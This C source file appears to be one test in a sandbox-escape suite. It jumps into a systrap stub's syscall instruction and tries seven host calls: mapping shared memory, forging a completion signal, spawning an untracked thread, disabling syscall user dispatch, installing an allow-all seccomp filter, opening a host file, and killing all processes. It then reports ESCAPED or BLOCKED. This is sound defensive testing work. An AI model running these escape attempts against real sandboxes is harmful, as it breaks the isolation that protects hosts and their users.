/* Jump into the systrap stub's own code with registers of the workload's
 * choosing: its `syscall` instruction is inside the range syscall user
 * dispatch lets through, so only the stub's seccomp filters stand between
 * these calls and the host. Each attempt runs in a child; a call that got
 * through falls onto the stub's ud2, and the child's SIGILL handler looks
 * for its effect. */
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>

static unsigned long insn;
static const char *marker, *secret;
static int step;

static void on_sigill(int s) {
    (void)s;
    /* The call went through. Did it do anything? */
    if (step == 0 && readable((void *)0x50000000UL) &&
        !memcmp((void *)0x50000000UL, (void *)STUB_BASE, 64))
        _exit(10);
    _exit(11);
}

static void jump(long nr, long a0, long a1, long a2, long a3, long a4, long a5) {
    register long r10 asm("r10") = a3;
    register long r8 asm("r8") = a4;
    register long r9 asm("r9") = a5;
    asm volatile("jmp *%[t]" ::[t] "r"(insn), "a"(nr), "D"(a0), "S"(a1), "d"(a2), "r"(r10), "r"(r8),
                 "r"(r9)
                 : "memory");
    __builtin_unreachable();
}

static struct sock_filter allow_all[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
static struct sock_fprog allow_prog = {1, allow_all};
static const unsigned long one = 1;

static void attempt(void *arg) {
    step = (int)(long)arg;
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_sigill;
    sigaction(SIGILL, &sa, NULL);
    switch (step) {
    case 0: /* map the memory file (the stub code, every process's memory) */
        jump(SYS_mmap, 0x50000000L, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, 3, 0);
    case 1: /* forge the control thread's proof that a request ran */
        jump(SYS_write, 5, (long)&one, 8, 0, 0, 0);
    case 2: /* a new host thread outside the kernel's control */
        jump(SYS_clone, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, 0, 0, 0, 0, 0);
    case 3: /* turn syscall user dispatch off */
        jump(SYS_prctl, 59 /* PR_SET_SYSCALL_USER_DISPATCH */, 0, 0, 0, 0, 0);
    case 4: /* replace the filter with one that allows everything */
        jump(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, (long)&allow_prog, 0, 0, 0);
    case 5: /* open the host's marker */
        jump(SYS_openat, AT_FDCWD, (long)marker, O_RDONLY, 0, 0, 0);
    case 6: /* kill every process of the sandbox (the kernel included) */
        jump(SYS_kill, -1, SIGKILL, 0, 0, 0, 0);
    }
}

int main(void) {
    protocol_init("systrap_jump");
    marker = param("ATTACK_MARKER");
    secret = param("ATTACK_SECRET");
    (void)secret;
    insn = stub_syscall_insn();
    if (!insn) {
        verdict("HARMLESS", "no systrap stub to jump into");
        return 0;
    }
    const char *names[] = {"mmap memfd", "write done fd", "clone thread", "prctl SUD off",
                           "seccomp allow-all", "openat host file", "kill -1"};
    int got = 0;
    char through[256] = "";
    for (int i = 0; i < 7; i++) {
        int st = in_child(attempt, (void *)(long)i);
        info("%s: %s", names[i], status_text(st));
        if (!(st >= 0 && WIFSIGNALED(st))) {
            got++;
            strcat(through, names[i]);
            strcat(through, "; ");
        }
    }
    int alive = kernel_alive();
    info("kernel serves a new process afterwards: %s", alive ? "yes" : "no");
    if (got)
        verdict("ESCAPED", "the stub filter let through: %s", through);
    else if (!alive)
        verdict("ESCAPED", "the kernel stopped serving the sandbox");
    else
        verdict("BLOCKED", "each of 7 host calls from the stub's code killed its process; the kernel served on");
    return 0;
}
